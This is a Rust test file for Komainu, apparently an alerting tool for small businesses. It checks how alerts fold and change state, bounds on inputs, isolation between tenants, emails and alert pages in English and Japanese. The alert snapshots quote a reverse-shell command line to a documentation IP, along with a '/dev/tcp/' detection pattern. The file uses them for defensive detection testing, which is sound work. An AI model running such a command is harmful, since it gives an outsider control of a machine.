use super::rules::*;
use crate::testing::*;
use ::store::Claimed;
use base::*;
use std::fmt::Write as _;
use wire::Event;

#[test]
fn like_findings_fold() {
    let now = trial::morning();
    let heard = |minutes: i64| now.plus(-minutes * Moment::MINUTE);
    let past = |state, level, heard, drill: Option<&str>, incident| Past {
        state,
        level,
        heard,
        drill: drill.map(str::to_owned),
        incident,
    };
    use Level::{High, Low, Medium};
    use State::{Closed, InIncident, Mine, Open};
    let mut table = String::new();
    for (what, past, quiet, level, drill) in [
        ("the first", None, false, Medium, None),
        ("open, a minute later", Some(past(Open, Medium, heard(1), None, false)), false, Medium, None),
        ("open, just within the hour", Some(past(Open, Medium, heard(60).plus(1), None, false)), false, Medium, None),
        ("open, after a quiet hour", Some(past(Open, Medium, heard(60), None, false)), false, Medium, None),
        ("open, now graver", Some(past(Open, Medium, heard(1), None, false)), false, High, None),
        ("open, now less grave", Some(past(Open, Medium, heard(1), None, false)), false, Low, None),
        ("open, covered by that was me", Some(past(Open, Medium, heard(90), None, false)), true, High, None),
        ("in an incident, a minute later", Some(past(InIncident, Medium, heard(1), None, true)), false, Medium, None),
        ("in an incident, after a quiet hour", Some(past(InIncident, Medium, heard(61), None, true)), false, Medium, None),
        ("that was me, covered", Some(past(Mine, Medium, heard(61), None, false)), true, High, None),
        ("that was me, of somebody else or over", Some(past(Mine, Medium, heard(1), None, false)), false, Medium, None),
        ("closed", Some(past(Closed, Medium, heard(1), None, false)), false, Medium, None),
        ("closed, covered by that was me", Some(past(Closed, Medium, heard(1), None, false)), true, Medium, None),
        ("closed with an incident", Some(past(Closed, Medium, heard(1), None, true)), false, Medium, None),
        ("the same drill", Some(past(Open, Medium, heard(1), Some("d1"), false)), false, Medium, Some("d1")),
        ("another drill", Some(past(Open, Medium, heard(1), Some("d1"), false)), false, Medium, Some("d2")),
        ("another drill, the last closed", Some(past(Closed, Medium, heard(1), Some("d1"), false)), false, Medium, Some("d2")),
    ] {
        let fold = fold(past.as_ref(), quiet, level, drill, now);
        writeln!(table, "{what:38} {fold:?}").expect("written");
    }
    insta::assert_snapshot!(table, @"
    the first                              Raise
    open, a minute later                   Count
    open, just within the hour             Count
    open, after a quiet hour               Repeat
    open, now graver                       Repeat
    open, now less grave                   Count
    open, covered by that was me           Count
    in an incident, a minute later         Count
    in an incident, after a quiet hour     Repeat
    that was me, covered                   Count
    that was me, of somebody else or over  Reopen
    closed                                 Reopen
    closed, covered by that was me         Count
    closed with an incident                Raise
    the same drill                         Count
    another drill                          Repeat
    another drill, the last closed         Reopen
    ");
}

#[test]
fn people_act_only_where_it_fits() {
    let mut table = format!("{:12} {:12} {:12} join\n", "", "claim", "close");
    for state in State::ALL {
        write!(table, "{:12}", state.name()).expect("written");
        for act in [Act::Claim, Act::Close, Act::Join] {
            write!(table, " {:12}", state.after(act).map_or("-", State::name)).expect("written");
        }
        table = format!("{}\n", table.trim_end());
    }
    insta::assert_snapshot!(table, @"
                 claim        close        join
    open         mine         closed       in-incident
    mine         -            closed       in-incident
    in-incident  -            -            -
    closed       -            -            in-incident
    ");
}

#[test]
fn that_was_me_covers_the_same_person_and_place() {
    let whose = |account: &str, source: &str| Whose { account: account.to_owned(), source: source.to_owned() };
    for (claimed, other, covers) in [
        (whose("sato", "10.0.0.1"), whose("sato", "10.0.0.1"), true),
        (whose("sato", "10.0.0.1"), whose("sato", "10.0.0.2"), false),
        (whose("sato", ""), whose("sato", "10.0.0.2"), true),
        (whose("sato", ""), whose("root", ""), false),
        (whose("", ""), whose("anybody", "anywhere"), true),
    ] {
        assert_eq!(claimed.covers(&other), covers, "{claimed:?} {other:?}");
    }
}

#[test]
fn what_an_agent_says_is_kept_within_bounds() {
    let now = trial::morning();
    let mut wild = finding("reverse-shell", "apocalyptic", "sato");
    wild.at = i64::MAX;
    wild.title = "\u{202e}\0a\n".repeat(1_000);
    wild.events =
        vec![Event { at: i64::MAX, source: Default::default(), fields: vec![("f".repeat(999), "v".repeat(9_999)); 200] }; 100];
    let tame = bounded(&wild, now);
    assert_eq!((tame.level.as_str(), tame.at, tame.events.len(), tame.title.chars().count()), ("medium", now.0, 20, 200));
    assert!(tame.events.iter().all(|event| event.at == now.0 && event.fields.len() == 60));
    let size = |findings: &[wire::Finding]| serde_json::to_string(findings).expect("json").len();
    let many = (0..40).fold(Vec::new(), |before, _| kept(finding("reverse-shell", "high", "sato"), before));
    assert_eq!(many.len(), 20);
    let large = (0..40).fold(Vec::new(), |before, _| kept(tame.clone(), before));
    assert!(!large.is_empty() && large.len() <= 20);
    assert!(large.len() == 1 || size(&large) < 300 * 1024, "{} of {} bytes", large.len(), size(&large));
}

proptest::proptest! {
    #[test]
    fn any_finding_is_bounded(rule in ".*", title in ".*", value in ".{0,600}", at in proptest::num::i64::ANY) {
        let mut wild = finding("sudo-failed", &title, &value);
        (wild.rule, wild.title, wild.at) = (rule, title, at);
        let tame = bounded(&wild, trial::morning());
        proptest::prop_assert!(tame.at <= trial::morning().0);
        proptest::prop_assert!(!tame.rule.chars().any(char::is_control) && tame.rule.chars().count() <= 80);
        let _ = whose(&tame);
    }
}

#[tokio::test]
async fn an_alert_reads_as_its_owner_needs_it() {
    let shop = trial::shop(routes(), fill).await;
    let id = add_device(&shop, &shop.company, "kiosk").await;
    insta::assert_snapshot!(shop.owner.get("/alerts").await.readable(), @"
    # Alerts
    What the watch noticed. Go from the top, and choose for each: that was us, help, or done.
    [Please look] [That was us] [Being handled] [Done] [All]
    From this gravity on
    (All / For information / Low / Medium / High / Very high / )
    Computer
    (All / kiosk / )
    Drill
    (All / No drills / Only drills / )
    Order by
    (Last noticed / Gravity / Computer / )
    Words to look for
    ()
    <Narrow down>
    There is nothing to look at. All is calm.
    [Help!]
    ");
    give(
        &shop,
        &shop.company,
        &id,
        &[finding("reverse-shell", "critical", "sato"), finding("reverse-shell", "critical", "sato")],
    )
    .await;
    insta::assert_snapshot!(shop.owner.in_japanese().get("/alerts/latest").await.readable(), @"
    何が起きたか | 重さ | 状態 | コンピューター | 回数 | 最後に気づいた時 |
    [外から操作された疑い] | とても高い | 見てください | kiosk | 2 | たった今 |
    ");
    let alerts = alerts(&shop.owner).await;
    let path = format!("/alerts/{}", alerts[0]["id"].as_str().expect("an id"));
    insta::assert_snapshot!(shop.owner.in_japanese().get(&path).await.readable(), @"
    # 外から操作された疑い
    ## 何が起きたか
    外から操作されています。
    ## いまやること
    LANを抜いてください。
    ## Komainu がすること
    記録しました。
    ## どうしますか
    とても高い 見てください
    [kiosk] · 2回（2026年11月23日 8:59 から 2026年11月23日 8:59 まで）
    <困った>
    <終わりにする>
    いつまで静かにしますか
    (x) 1日間
    ( ) 7日間
    ( ) 30日間
    同じコンピューターの、同じ人・同じ場所からの同じ動きは、記録だけして知らせません。期限が来たら、また知らせます。
    <心当たりがある（自分たちがした）>
    ## くわしい記録
    ルール: reverse-shell 00000000-0000-4000-8000-000000000003
    攻撃の手口（MITRE ATT&CK）: T1059.004
    専門家のための説明
    根拠: bash -i
    2026年11月23日 8:59 に気づいたこと
    ルールのどこに当てはまったか
    条件 | 項目 | 実際の値 | ルールの値 |
    selection | CommandLine | bash -i >& /dev/tcp/203.0.113.7/4444 | */dev/tcp/* |
    もとになった記録
    - 2026年11月23日 8:59 linux / process_creation
    Image: /usr/bin/bash
    CommandLine: bash -i >& /dev/tcp/203.0.113.7/4444
    User: sato
    2026年11月23日 8:59 に気づいたこと
    ルールのどこに当てはまったか
    条件 | 項目 | 実際の値 | ルールの値 |
    selection | CommandLine | bash -i >& /dev/tcp/203.0.113.7/4444 | */dev/tcp/* |
    もとになった記録
    - 2026年11月23日 8:59 linux / process_creation
    Image: /usr/bin/bash
    CommandLine: bash -i >& /dev/tcp/203.0.113.7/4444
    User: sato
    [警告の一覧へ]
    ");
    insta::assert_snapshot!(shop.owner.get(&path).await.readable(), @"
    # Somebody outside controls this computer
    ## What happened
    Somebody outside is at the keyboard.
    ## What to do now
    Unplug the LAN cable.
    ## What Komainu does
    We kept a record.
    ## Your decision
    Very high Please look
    [kiosk] · 2 times (23 November 2026, 8:59 to 23 November 2026, 8:59)
    <Help!>
    <Done>
    Keep quiet about it for how long?
    (x) 1 day
    ( ) 7 days
    ( ) 30 days
    The same act on the same computer, by the same person and from the same place, is recorded but not told. After that time it is told again.
    <That was us>
    ## Details
    Rule: reverse-shell 00000000-0000-4000-8000-000000000003
    Techniques of attack (MITRE ATT&CK): T1059.004
    For analysts
    Basis: bash -i
    Noticed on 23 November 2026, 8:59
    What in the rule it fits
    Selection | Field | Value seen | Value in the rule |
    selection | CommandLine | bash -i >& /dev/tcp/203.0.113.7/4444 | */dev/tcp/* |
    The records it rests on
    - 23 November 2026, 8:59 linux / process_creation
    Image: /usr/bin/bash
    CommandLine: bash -i >& /dev/tcp/203.0.113.7/4444
    User: sato
    Noticed on 23 November 2026, 8:59
    What in the rule it fits
    Selection | Field | Value seen | Value in the rule |
    selection | CommandLine | bash -i >& /dev/tcp/203.0.113.7/4444 | */dev/tcp/* |
    The records it rests on
    - 23 November 2026, 8:59 linux / process_creation
    Image: /usr/bin/bash
    CommandLine: bash -i >& /dev/tcp/203.0.113.7/4444
    User: sato
    [To all alerts]
    ");
    insta::assert_snapshot!(shop.staff.get(&path).await.readable(), @"
    # Somebody outside controls this computer
    ## What happened
    Somebody outside is at the keyboard.
    ## What to do now
    Unplug the LAN cable.
    ## What Komainu does
    We kept a record.
    ## Your decision
    Very high Please look
    [kiosk] · 2 times (23 November 2026, 8:59 to 23 November 2026, 8:59)
    <Help!>
    [To all alerts]
    ");
}

#[tokio::test]
async fn a_drill_says_so_everywhere() {
    let shop = trial::shop(routes(), fill).await;
    let id = add_device(&shop, &shop.company, "kiosk").await;
    let mut rehearsed = finding("sudo-failed", "low", "sato");
    rehearsed.drill = Some("d1".to_owned());
    give(&shop, &shop.company, &id, &[rehearsed, finding("sudo-failed", "low", "sato")]).await;
    let told = alerts(&shop.owner).await;
    assert_eq!(told.len(), 2, "a rehearsal's findings and true ones are kept apart");
    insta::assert_snapshot!(shop.owner.in_japanese().get("/alerts/latest?drill=yes").await.readable(), @"
    何が起きたか | 重さ | 状態 | コンピューター | 回数 | 最後に気づいた時 |
    [管理者になろうとして失敗] 訓練 | 低い | 見てください | kiosk | 1 | たった今 |
    ");
    let drill = told.iter().find(|alert| alert["drill"] == true).expect("a drill");
    let page = shop.owner.in_japanese().get(&format!("/alerts/{}", drill["id"].as_str().expect("an id"))).await.readable();
    assert!(page.starts_with("# 【訓練】"), "{page}");
    let job = last_job(&shop).await;
    let letters = super::letter(&shop.app, &job).await.expect("letters");
    assert!(letters.iter().all(|letter| letter.subject.starts_with("[Drill]")), "{letters:?}");
}

/// The first of the jobs that follow an alert.
async fn last_job(shop: &trial::Shop) -> Claimed {
    loop {
        let job = shop.app.store.claim_job().await.expect("jobs").expect("a job");
        if job.kind == "mail-alert" {
            return job;
        }
    }
}

#[tokio::test]
async fn owners_and_people_in_charge_are_written_to() {
    let shop = trial::shop(routes(), fill).await;
    let id = add_device(&shop, &shop.company, "kiosk").await;
    give(&shop, &shop.company, &id, &[finding("reverse-shell", "high", "sato")]).await;
    let letters = super::letter(&shop.app, &last_job(&shop).await).await.expect("letters");
    assert_eq!(
        letters.iter().map(|letter| letter.to.as_str()).collect::<Vec<_>>(),
        ["owner@bakery.example", "lead@bakery.example"]
    );
    let told = alerts(&shop.owner).await;
    let path = format!("/alerts/{}", told[0]["id"].as_str().expect("an id"));
    let letter = format!("{}\n\n{}", letters[0].subject, letters[0].text.replace(&path, "/alerts/…"));
    insta::assert_snapshot!(letter, @r#"
    [Komainu] Somebody outside controls this computer (kiosk)

    Somebody outside controls this computer

    Computer: kiosk
    Gravity: High
    When: 23 November 2026, 8:59

    ■ What happened
    Somebody outside is at the keyboard.

    ■ What to do now
    Unplug the LAN cable.

    ■ What Komainu does
    We kept a record.

    See more, and say "That was us" or "Help!":
    http://localhost:8620/alerts/…

    This mail was sent by Komainu, the watch of your company.
    "#);
    give(&shop, &shop.company, &id, &[finding("sudo-failed", "low", "sato")]).await;
    assert_eq!(super::letter(&shop.app, &last_job(&shop).await).await.expect("letters"), [], "a low alert is no letter");
}

#[tokio::test]
async fn that_was_me_is_quiet_until_it_ends() {
    trial::each_store(routes(), fill, |shop| async move {
        let id = add_device(&shop, &shop.company, "kiosk").await;
        give(&shop, &shop.company, &id, &[finding("reverse-shell", "high", "sato")]).await;
        let alert = alerts(&shop.owner).await[0]["id"].as_str().expect("an id").to_owned();
        let path = format!("/alerts/{alert}");
        for (days, status) in [("2", 422), ("", 422), ("x", 422), ("7", 303)] {
            assert_eq!(shop.lead.post(&format!("{path}/mine"), &[("days", days)]).await.status, status, "{days:?}");
        }
        assert_eq!(shop.lead.post(&format!("{path}/mine"), &[("days", "7")]).await.status, 422, "twice is refused");
        give(&shop, &shop.company, &id, &[finding("reverse-shell", "high", "sato")]).await;
        let state = |alerts: Vec<serde_json::Value>| {
            (alerts.len(), alerts[0]["state"].as_str().unwrap_or("?").to_owned(), alerts[0]["count"].clone())
        };
        assert_eq!(state(alerts(&shop.owner).await), (1, "mine".to_owned(), 2.into()));
        give(&shop, &shop.company, &id, &[finding("reverse-shell", "high", "another")]).await;
        assert_eq!(state(alerts(&shop.owner).await), (1, "open".to_owned(), 3.into()), "somebody else is told");
        assert_eq!(shop.lead.post(&format!("{path}/close"), &[]).await.status, 303);
        give(&shop, &shop.company, &id, &[finding("reverse-shell", "high", "sato")]).await;
        assert_eq!(state(alerts(&shop.owner).await), (1, "closed".to_owned(), 4.into()), "still quiet");
        shop.clock.advance(8 * Moment::DAY);
        give(&shop, &shop.company, &id, &[finding("reverse-shell", "high", "sato")]).await;
        assert_eq!(state(alerts(&shop.owner).await), (1, "open".to_owned(), 5.into()), "the days are over");
        let told = facts(&shop, &shop.company).await;
        assert_eq!(
            told,
            ["device-enrolled", "alert-raised", "alert-claimed", "alert-reopened", "alert-closed", "alert-reopened"]
        );
    })
    .await;
}

#[tokio::test]
async fn another_companys_alert_is_not_there() {
    trial::each_store(routes(), fill, |shop| async move {
        let id = add_device(&shop, &shop.company, "kiosk").await;
        give(&shop, &shop.company, &id, &[finding("reverse-shell", "high", "sato")]).await;
        let alert = alerts(&shop.owner).await[0]["id"].as_str().expect("an id").to_owned();
        let other = &shop.other_owner;
        assert!(alerts(other).await.is_empty());
        assert!(!other.get("/alerts?state=all").await.readable().contains("kiosk"));
        for path in [format!("/alerts/{alert}"), format!("/alerts/{alert}/state"), format!("/api/v1/alerts/{alert}")] {
            assert_eq!(other.get(&path).await.status, 404, "{path}");
        }
        for (act, fields) in [("mine", vec![("days", "1")]), ("close", vec![]), ("help", vec![])] {
            assert_eq!(other.post(&format!("/alerts/{alert}/{act}"), &fields).await.status, 404, "{act}");
        }
        assert_eq!(alerts(&shop.owner).await[0]["state"], "open");
        assert_eq!(shop.staff.post(&format!("/alerts/{alert}/close"), &[]).await.status, 403, "staff do not put alerts away");
        assert_eq!(shop.stranger.get(&format!("/alerts/{alert}")).await.status, 303);
        for bad in [
            "/alerts/x",
            "/alerts/%00",
            "/api/v1/alerts?limit=0",
            "/api/v1/alerts?limit=x",
            "/api/v1/alerts?state=x",
            "/api/v1/alerts?cursor=x",
        ] {
            let status = shop.owner.get(bad).await.status;
            assert!(status.is_client_error(), "{bad}: {status}");
        }
        for filter in ["/alerts?state=x&level=y&device=z&drill=w&sort=v&before=u", "/alerts?q=%25_%27%3B--"] {
            assert_eq!(shop.owner.get(filter).await.status, 200, "{filter}");
        }
    })
    .await;
}

#[tokio::test]
async fn the_api_turns_pages() {
    let shop = trial::shop(routes(), fill).await;
    for n in 0..5 {
        let id = add_device(&shop, &shop.company, &format!("pc{n}")).await;
        give(&shop, &shop.company, &id, &[finding("reverse-shell", "high", "sato")]).await;
    }
    let (mut hosts, mut cursor) = (Vec::new(), String::new());
    loop {
        let reply = shop.owner.get(&format!("/api/v1/alerts?limit=2&cursor={cursor}")).await;
        let body: serde_json::Value = serde_json::from_slice(&reply.bytes).expect("json");
        hosts.extend(body["items"].as_array().expect("items").iter().map(|item| item["host"].as_str().unwrap_or("?").to_owned()));
        match body["next"].as_str() {
            Some(next) => cursor = next.to_owned(),
            None => break,
        }
    }
    assert_eq!(hosts, ["pc4", "pc3", "pc2", "pc1", "pc0"]);
}
